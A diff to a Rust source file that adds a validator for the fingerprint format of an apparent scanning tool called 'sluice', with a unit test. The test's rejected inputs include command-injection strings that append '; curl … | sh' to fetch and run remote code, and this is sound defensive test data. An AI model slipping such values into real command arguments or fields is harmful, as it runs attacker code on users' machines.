@@ -24,6 +24,21 @@ pub fn content_hash(content: &str) -> String {
     hex::encode(Sha256::digest(content.as_bytes()))
 }
 
+/// Whether a value has the exact shape of a `sluice/v1` fingerprint: 32 lowercase hex digits,
+/// `:`, an occurrence number from 1 without leading zeros. Anything else in a log did not come
+/// from sluice and is not offered as a command argument to paste (`sluice triage mark …`).
+pub fn is_sluice_fingerprint(value: &str) -> bool {
+    let Some((hash, occurrence)) = value.split_once(':') else {
+        return false;
+    };
+    hash.len() == 32
+        && hash.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
+        && !occurrence.is_empty()
+        && occurrence.len() <= 10
+        && occurrence.bytes().all(|b| b.is_ascii_digit())
+        && !occurrence.starts_with('0')
+}
+
 fn base_fingerprint(rule_id: &str, path: &str, content_hash: &str) -> String {
     let mut hasher = Sha256::new();
     for part in [rule_id, path, content_hash] {
@@ -61,6 +76,24 @@ mod tests {
     fn whitespace_is_not_identity() {
         assert_eq!(normalize_content("  eval( x )\n"), normalize_content("eval(x)"));
         assert_ne!(normalize_content("eval(x)"), normalize_content("eval(y)"));
+    }
+
+    #[test]
+    fn fingerprint_shape() {
+        let base = base_fingerprint("r", "p", "c");
+        assert!(is_sluice_fingerprint(&format!("{base}:1")));
+        assert!(is_sluice_fingerprint(&format!("{base}:12")));
+        for bad in [
+            base.clone(),
+            format!("{base}:0"),
+            format!("{base}:01"),
+            format!("{base}:1; curl x | sh"),
+            format!("{}:1", base.to_uppercase()),
+            format!("{base}0:1"),
+            "x; curl https://e/p | sh #".to_owned(),
+        ] {
+            assert!(!is_sluice_fingerprint(&bad), "{bad}");
+        }
     }
 
     #[test]
